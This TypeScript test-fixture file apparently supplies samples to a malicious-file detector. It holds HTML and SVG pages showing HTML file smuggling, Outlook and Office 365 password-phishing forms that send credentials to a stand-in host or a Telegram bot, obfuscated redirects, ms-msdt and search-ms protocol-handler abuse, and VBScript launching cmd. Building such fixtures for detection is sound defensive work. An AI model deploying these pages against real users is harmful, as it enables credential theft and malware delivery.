// Pages that smuggle files, ask for passwords and send their reader on.
import { writeZip } from '../../write-zip.ts'
import type { Suspect } from '../suspect.ts'
import { file, runsCalc } from './document.ts'

const smuggled = writeZip({ 'invoice.js': runsCalc }).toString('base64')

export const pages: readonly Suspect[] = [
  file(
    'smuggle.html',
    'malicious',
    ['html_smuggles_file'],
    `<html><body><script>var d=atob("${smuggled}");var b=new Blob([d],{type:"application/octet-stream"});var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="i.zip";a.click();</script></body></html>`,
  ),
  file(
    'smuggle-joined.html',
    'malicious',
    ['html_smuggles_file'],
    `<html><script>var p="${smuggled.slice(0, 40)}"+"${smuggled.slice(40, 90)}"+"${smuggled.slice(90)}";var b=new Blob([p]);if(window.navigator.msSaveOrOpenBlob){window.navigator.msSaveOrOpenBlob(b,"x.zip")}else{var a=document.createElement("a");a.href=window.URL.createObjectURL(b);a.setAttribute("download","x.zip");a.click()}</script></html>`,
  ),
  file(
    'smuggle-data.html',
    'suspicious',
    ['html_smuggles_file'],
    `<html><a id=a download="i.zip" href="data:application/zip;base64,${smuggled}">i</a><script>document.getElementById("a").click()</script></html>`,
  ),
  file(
    'login.html',
    'suspicious',
    ['html_asks_for_password'],
    '<html><title>Microsoft Outlook - Sign in</title><form action="https://collect.test/p.php" method="post"><input type="email" name="e"><input type="password" name="p"><button>Sign in</button></form></html>',
  ),
  file(
    'login-telegram.html',
    'suspicious',
    ['html_asks_for_password'],
    '<html><title>Office 365</title><input type="email" id="e"><input type="password" id="p"><script>document.querySelector("button").onclick=function(){fetch("https://api.telegram.org/bot1:a/sendMessage?chat_id=1&text="+p.value)}</script><button>Next</button></html>',
  ),
  file(
    'login-encoded.html',
    'suspicious',
    ['html_builds_page_from_code'],
    `<html><script>document.write(unescape("${[...'<form action="https://collect.test/p.php"><input type=password></form>'].map((char) => `%${char.charCodeAt(0).toString(16)}`).join('')}"))</script></html>`,
  ),
  file(
    'atob-page.html',
    'suspicious',
    ['html_builds_page_from_code'],
    `<html><script>document.write(atob("${Buffer.from('<html><script>location.href="https://collect.test/login"</script></html>').toString('base64')}"))</script></html>`,
  ),
  file(
    'msdt.html',
    'suspicious',
    ['html_calls_protocol_handler'],
    '<html><script>location.href = "ms-msdt:/id PCWDiagnostic /skip force /param \\"IT_RebrowseForFile=cal?c IT_BrowseForFile=x\\""</script><a href="ms-msdt:/id PCWDiagnostic /param IT_BrowseForFile=$(calc)">x</a></html>',
  ),
  file(
    'search.html',
    'suspicious',
    ['html_calls_protocol_handler'],
    '<html><meta http-equiv="refresh" content="0; url=search-ms:query=invoice&crumb=location:\\\\203.0.113.7\\s&displayname=Docs"><a href="search-ms:query=a&crumb=location:\\\\203.0.113.7@80\\s">x</a></html>',
  ),
  file(
    'picture.svg',
    'suspicious',
    ['svg_runs_script'],
    '<svg xmlns="http://www.w3.org/2000/svg"><script>window.location.href = atob("aHR0cHM6Ly9jb2xsZWN0LnRlc3QvbG9naW4/aWQ9MQ==")</script></svg>',
  ),
  file(
    'form.svg',
    'suspicious',
    ['svg_runs_script'],
    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><form xmlns="http://www.w3.org/1999/xhtml" action="https://collect.test/p.php"><input type="password"/></form></foreignObject><script>eval(atob("YWxlcnQoMSk7YWxlcnQoMik7YWxlcnQoMyk7"))</script></svg>',
  ),
  file(
    'objects.html',
    'suspicious',
    ['html_page_uses_windows_objects'],
    '<html><script language="VBScript">Set s = CreateObject("WScript.Shell")\r\ns.Run "cmd /c calc", 0</script></html>',
  ),
]
